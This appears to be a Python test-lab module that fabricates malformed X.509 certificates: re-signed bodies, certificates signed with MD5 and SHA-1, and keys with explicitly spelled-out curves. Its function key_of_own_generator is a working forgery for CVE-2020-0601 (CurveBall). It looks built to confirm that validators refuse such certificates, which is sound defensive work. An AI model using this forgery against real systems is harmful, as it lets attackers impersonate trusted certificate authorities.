"""Certificates that no library makes: fields changed behind its back, and signed again."""

from __future__ import annotations

import hashlib
import secrets
from collections.abc import Callable
from dataclasses import dataclass, replace
from typing import Self

from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec, padding, rsa
from cryptography.hazmat.primitives.asymmetric.utils import encode_dss_signature
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from lab.pki.der import (
    NULL,
    OCTET_STRING,
    SEQUENCE,
    bit_string,
    body_fields,
    element,
    integer,
    oid,
)
from lab.pki.keys import PrivateKey

_NULL = element(NULL)
_EC_PUBLIC_KEY, _PRIME_FIELD = oid("1.2.840.10045.2.1"), oid("1.2.840.10045.1.1")

P256_PRIME = 0xFFFFFFFF00000001000000000000000000000000FFFFFFFFFFFFFFFFFFFFFFFF
P256_B = 0x5AC635D8AA3A93E7B3EBBD55769886BC651D06B0CC53B0F63BCE3C3E27D2604B
P256_ORDER = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
P256_GENERATOR = (
    0x6B17D1F2E12C4247F8BCE6E563A440F277037D812DEB33A0F4A13945D898C296,
    0x4FE342E2FE1A7F9B8EE7EB4A7C0F9E162BCE33576B315ECECBB6406837BF51F5,
)
"""FIPS 186-4 section D.1.2.3."""


@dataclass(frozen=True, slots=True)
class Body:
    """The fields of a TBSCertificate, each in DER (RFC 5280 section 4.1)."""

    version: bytes
    """Empty for v1."""
    serial: bytes
    algorithm: bytes
    issuer: bytes
    validity: bytes
    subject: bytes
    key: bytes
    """The SubjectPublicKeyInfo."""
    more: bytes
    """Unique identifiers and extensions; empty where there are none."""

    @classmethod
    def of(cls, certificate: x509.Certificate) -> Self:
        """Take the body of ``certificate`` apart."""
        fields = body_fields(certificate.tbs_certificate_bytes)
        version, serial, algorithm, issuer, validity, subject, key, *more = fields
        return cls(version, serial, algorithm, issuer, validity, subject, key, more=b"".join(more))

    @property
    def encoded(self) -> bytes:
        """The TBSCertificate."""
        return element(
            SEQUENCE,
            *(self.version, self.serial, self.algorithm, self.issuer),
            *(self.validity, self.subject, self.key, self.more),
        )


@dataclass(frozen=True, slots=True)
class Scheme:
    """How a certificate is signed: the AlgorithmIdentifier and what makes the signature."""

    algorithm: bytes
    sign: Callable[[PrivateKey, bytes], bytes]
    """Called with the issuer's key and the TBSCertificate."""


def _ecdsa(dotted: str, algorithm: hashes.HashAlgorithm) -> Scheme:
    def sign(key: PrivateKey, body: bytes) -> bytes:
        assert isinstance(key, ec.EllipticCurvePrivateKey), "the issuer's key is for ECDSA"
        return key.sign(body, ec.ECDSA(algorithm))

    return Scheme(element(SEQUENCE, oid(dotted)), sign)


def _rsa(dotted: str, algorithm: hashes.HashAlgorithm) -> Scheme:
    def sign(key: PrivateKey, body: bytes) -> bytes:
        assert isinstance(key, rsa.RSAPrivateKey), "the issuer's key is RSA's"
        return key.sign(body, padding.PKCS1v15(), algorithm)

    return Scheme(element(SEQUENCE, oid(dotted), _NULL), sign)


# Two of these are broken: certificates that are signed so must be refused.
ECDSA_SHA256 = _ecdsa("1.2.840.10045.4.3.2", hashes.SHA256())
ECDSA_SHA1 = _ecdsa("1.2.840.10045.4.1", hashes.SHA1())  # noqa: S303
RSA_MD5 = _rsa("1.2.840.113549.1.1.4", hashes.MD5())  # noqa: S303


def resigned(
    certificate: x509.Certificate,
    issuer: PrivateKey,
    scheme: Scheme = ECDSA_SHA256,
    *,
    serial: int | None = None,
    version_1: bool = False,
    key_info: bytes | None = None,
) -> x509.Certificate:
    """Return ``certificate`` with these changes, signed by ``issuer`` under ``scheme``.

    ``version_1`` drops what version 1 has not: the extensions. ``key_info`` is another
    SubjectPublicKeyInfo, DER.
    """
    body = replace(Body.of(certificate), algorithm=scheme.algorithm)
    if serial is not None:
        body = replace(body, serial=integer(serial))
    if version_1:
        body = replace(body, version=b"", more=b"")
    if key_info is not None:
        body = replace(body, key=key_info)
    signed = body.encoded
    signature = bit_string(scheme.sign(issuer, signed))
    return x509.load_der_x509_certificate(element(SEQUENCE, signed, scheme.algorithm, signature))


def explicit_key_info(
    key: ec.EllipticCurvePublicKey, generator: tuple[int, int] = P256_GENERATOR
) -> bytes:
    """Return the SubjectPublicKeyInfo of a P-256 key with the curve spelled out (X9.62
    SpecifiedECDomain), which RFC 5480 section 2.1.1 forbids, and maybe with another generator."""
    curve = element(
        SEQUENCE,
        element(OCTET_STRING, (P256_PRIME - 3).to_bytes(32)),
        element(OCTET_STRING, P256_B.to_bytes(32)),
    )
    parameters = element(
        SEQUENCE,
        integer(1),
        element(SEQUENCE, _PRIME_FIELD, integer(P256_PRIME)),
        curve,
        element(OCTET_STRING, _uncompressed(*generator)),
        integer(P256_ORDER),
        integer(1),
    )
    point = key.public_bytes(Encoding.X962, PublicFormat.UncompressedPoint)
    return element(SEQUENCE, element(SEQUENCE, _EC_PUBLIC_KEY, parameters), bit_string(point))


def point_of(key: ec.EllipticCurvePublicKey) -> tuple[int, int]:
    """Return the coordinates of a public key."""
    numbers = key.public_numbers()
    return numbers.x, numbers.y


def key_of_own_generator(victim: ec.EllipticCurvePublicKey) -> Scheme:
    """Return how to sign with the private key that ``victim`` has where the generator is
    ``victim`` itself: that key is 1, and known to everybody (CVE-2020-0601).

    The key that ``Scheme.sign`` is called with does not matter.
    """

    def sign(_: PrivateKey, body: bytes) -> bytes:
        digest = int.from_bytes(hashlib.sha256(body).digest())
        once = 1 + secrets.randbelow(P256_ORDER - 1)
        # The x coordinate of once * victim is what a key exchange of the two agrees on.
        agreed = ec.derive_private_key(once, ec.SECP256R1()).exchange(ec.ECDH(), victim)
        r = int.from_bytes(agreed) % P256_ORDER
        return encode_dss_signature(r, pow(once, -1, P256_ORDER) * (digest + r) % P256_ORDER)

    return Scheme(ECDSA_SHA256.algorithm, sign)


def _uncompressed(x: int, y: int) -> bytes:
    return b"\x04" + x.to_bytes(32) + y.to_bytes(32)
